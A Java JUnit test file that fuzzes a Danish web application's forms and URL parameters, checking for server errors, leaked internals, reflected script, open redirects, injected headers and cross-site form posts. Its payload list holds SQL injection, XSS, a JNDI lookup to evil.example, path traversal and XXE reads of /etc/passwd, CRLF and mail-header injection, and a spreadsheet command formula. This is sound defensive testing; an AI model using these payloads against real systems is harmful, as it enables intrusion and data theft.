package dk.tonsvis.desk;

import static org.assertj.core.api.Assertions.assertThat;

import dk.tonsvis.person.Organisation;
import dk.tonsvis.person.Role;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/// Sends what an attacker would: into every field and every part of an address, signed in and not.
/// Nothing of it may fail inside, come back as markup, lead elsewhere or tell of the inside.
class HostileInputsTest {
  private static final List<String> PAYLOADS =
      List.of(
          "' or '1'='1",
          "'; drop table person; --",
          "1) union select hash from access_password --",
          "\" or pg_sleep(9)--",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "${7*7}#{7*7}{{7*7}}",
          "${jndi:ldap://evil.example/a}",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
          "file:///etc/passwd",
          "a\r\nSet-Cookie: stolen=1",
          "a\nBcc: victim@evil.example",
          "a%0d%0aX-Injected: 1",
          "https://evil.example/",
          "//evil.example",
          "/\\evil.example",
          "=cmd|' /C calc'!A0",
          "+1+1",
          "@SUM(1)",
          "\u0000",
          "\ud800",
          "\u202e\u2066",
          "-1",
          "99999999999999999999999999",
          "NaN",
          "{\"$ne\": null}",
          "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
          "æ".repeat(5_000));

  /// What an answer must not have in it.
  private static final Pattern INSIDE =
      Pattern.compile(
          "at dk\\.tonsvis\\.|org\\.springframework|org\\.postgresql|java\\.lang\\."
              + "|PSQLException|argon2id|root:x:0|<script>alert|<img src=x");

  private static RunningDesk desk;

  @BeforeAll
  static void start() {
    desk = RunningDesk.start();
  }

  @AfterAll
  static void close() {
    desk.close();
  }

  /// A form, and the fields that something is sent in.
  private record Target(String page, String action, List<String> fields) {}

  private static final List<Target> OF_ANYONE =
      List.of(
          new Target("/log-ind", "/log-ind", List.of("email", "adgangskode", "videre")),
          new Target("/glemt-adgangskode", "/glemt-adgangskode", List.of("email")));

  private static final List<Target> OF_COORDINATOR =
      List.of(
          new Target(
              "/arbejde/kommuner/vindby/personer",
              "/arbejde/kommuner/vindby/personer",
              List.of("navn", "email", "rolle", "til", "sprog", "_side", "_hvem")),
          new Target("/arbejde/profil", "/arbejde/profil", List.of("navn", "sprog")),
          new Target(
              "/arbejde/kommuner/vindby/plan",
              "/arbejde/kommuner/vindby/plan",
              List.of("navn", "fra")));

  private static final List<Target> OF_ADMINISTRATOR =
      List.of(
          new Target(
              "/arbejde/drift/personer",
              "/arbejde/drift/personer",
              List.of("navn", "email", "rolle")),
          new Target(
              "/arbejde/drift/organisationer",
              "/arbejde/drift/organisationer",
              List.of("navn", "cvr")),
          new Target(
              "/arbejde/drift/log-ind",
              "/arbejde/drift/log-ind",
              List.of("id", "udsteder", "klient", "navn-da", "omfang")));

  private static final List<String> ASKED =
      List.of(
          "/arbejde?gjort=",
          "/log-ind?videre=",
          "/log-ind?hvorfor=",
          "/arbejde/kommuner/vindby/journal?hvad=",
          "/arbejde/kommuner/vindby/journal?hvem=",
          "/arbejde/kommuner/vindby/journal?fra=",
          "/arbejde/kommuner/vindby/journal?foer=",
          "/arbejde/kommuner/",
          "/arbejde/kommuner/vindby/plan/udgave/",
          "/arbejde/kommuner/vindby/plan/kladde/",
          "/arbejde/kommuner/vindby/plan/sammenlign?fra=",
          "/velkommen/",
          "/invitation/",
          "/glemt-adgangskode/",
          "/en/kommuner/vindby/plan/1/hoering?afsendt=");

  @Test
  void nothing_that_is_sent_in_a_form_fails_inside_or_comes_back_as_markup() {
    Browser coordinator =
        desk.browser(desk.person("Anna", desk.municipality("vindby"), Role.COORDINATOR));
    Browser administrator =
        desk.browser(desk.person("Bo", Organisation.INSTALLATION, Role.ADMINISTRATOR));
    List<String> wrong = new ArrayList<>();
    int sent =
        send(desk.browser(), OF_ANYONE, wrong)
            + send(coordinator, OF_COORDINATOR, wrong)
            + send(administrator, OF_ADMINISTRATOR, wrong);
    assertThat(wrong).isEmpty();
    assertThat(sent).isGreaterThan(200);
    assertThat(desk.house().mail().outbox())
        .noneMatch(letter -> letter.address().orElse("").contains("evil.example"));
  }

  private static int send(Browser browser, List<Target> targets, List<String> wrong) {
    int sent = 0;
    for (Target target : targets) {
      for (String field : target.fields()) {
        for (String payload : PAYLOADS) {
          browser.get(target.page());
          check(
                  "POST " + target.action() + " " + field + "=" + shown(payload),
                  browser.post(target.action(), field, payload))
              .ifPresent(wrong::add);
          sent++;
        }
      }
    }
    return sent;
  }

  @Test
  void nothing_that_is_asked_for_in_an_address_fails_inside_or_leads_elsewhere() {
    Browser browser =
        desk.browser(desk.person("Carl", desk.municipality("vindby"), Role.COORDINATOR));
    List<String> wrong = new ArrayList<>();
    int asked = 0;
    for (String address : ASKED) {
      for (String payload : PAYLOADS) {
        String encoded = URLEncoder.encode(payload, StandardCharsets.UTF_8).replace("+", "%20");
        check("GET " + address + shown(payload), browser.get(address + encoded))
            .ifPresent(wrong::add);
        asked++;
      }
    }
    assertThat(wrong).isEmpty();
    assertThat(asked).isGreaterThan(200);
  }

  @Test
  void what_is_too_large_or_of_another_kind_is_refused_in_good_order() {
    Browser browser =
        desk.browser(desk.person("Dorte", desk.municipality("vindby"), Role.COORDINATOR));
    List<String> wrong = new ArrayList<>();
    for (String path :
        List.of(
            "/log-ind",
            "/arbejde/profil",
            "/arbejde/kommuner/vindby/personer",
            "/arbejde/kommuner/vindby/plan/fil")) {
      for (String type :
          List.of(
              "application/json",
              "text/xml",
              "text/plain",
              "multipart/form-data",
              "multipart/form-data; boundary=x",
              "application/x-www-form-urlencoded; charset=nonsense",
              "application/octet-stream")) {
        for (String body : List.of("", "{", "--x\r\n\r\n", "a=" + "b".repeat(300_000))) {
          check(
                  "POST " + path + " of " + type + ", " + body.length() + " signs",
                  browser.send(
                      HttpRequest.newBuilder(URI.create(desk.address() + path))
                          .header("Content-Type", type)
                          .POST(HttpRequest.BodyPublishers.ofString(body))
                          .build()))
              .ifPresent(wrong::add);
        }
      }
      for (String method : List.of("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "HACK")) {
        check(
                method + " " + path,
                browser.send(
                    HttpRequest.newBuilder(URI.create(desk.address() + path))
                        .method(method, HttpRequest.BodyPublishers.noBody())
                        .build()))
            .ifPresent(wrong::add);
      }
    }
    assertThat(wrong).isEmpty();
  }

  @Test
  void a_form_from_another_site_changes_nothing() {
    Browser browser =
        desk.browser(desk.person("Erik", desk.municipality("vindby"), Role.COORDINATOR));
    browser.get("/arbejde/profil");
    for (String header : List.of("Origin: https://evil.example", "Sec-Fetch-Site: cross-site")) {
      String[] parts = header.split(": ", 2);
      HttpResponse<String> answer =
          browser.send(
              HttpRequest.newBuilder(URI.create(desk.address() + "/arbejde/profil"))
                  .header("Content-Type", "application/x-www-form-urlencoded")
                  .header(parts[0], parts[1])
                  .POST(
                      HttpRequest.BodyPublishers.ofString(
                          "navn=Overtaget&sprog=da&_csrf="
                              + URLEncoder.encode(browser.token(), StandardCharsets.UTF_8)))
                  .build());
      assertThat(answer.statusCode()).as(header).isEqualTo(403);
    }
    assertThat(desk.house().people().list()).noneMatch(each -> each.name().equals("Overtaget"));
  }

  private static Optional<String> check(String what, HttpResponse<String> answer) {
    String location = answer.headers().firstValue("Location").orElse("");
    if (answer.statusCode() >= 500) {
      return Optional.of(what + ": " + answer.statusCode());
    }
    if (INSIDE.matcher(answer.body()).find()) {
      return Optional.of(what + ": tells of the inside or comes back as markup");
    }
    if (!location.isEmpty() && !location.matches("/(?![/\\\\]).*")) {
      return Optional.of(what + ": leads to " + location);
    }
    if (answer.headers().map().keySet().stream()
        .anyMatch(name -> name.equalsIgnoreCase("X-Injected"))) {
      return Optional.of(what + ": a header of its own");
    }
    return answer.headers().allValues("Set-Cookie").stream()
            .anyMatch(cookie -> cookie.contains("stolen"))
        ? Optional.of(what + ": a cookie of its own")
        : Optional.empty();
  }

  private static String shown(String payload) {
    return payload.substring(0, Math.min(payload.length(), 30)).replaceAll("\\p{Cntrl}", "?");
  }
}
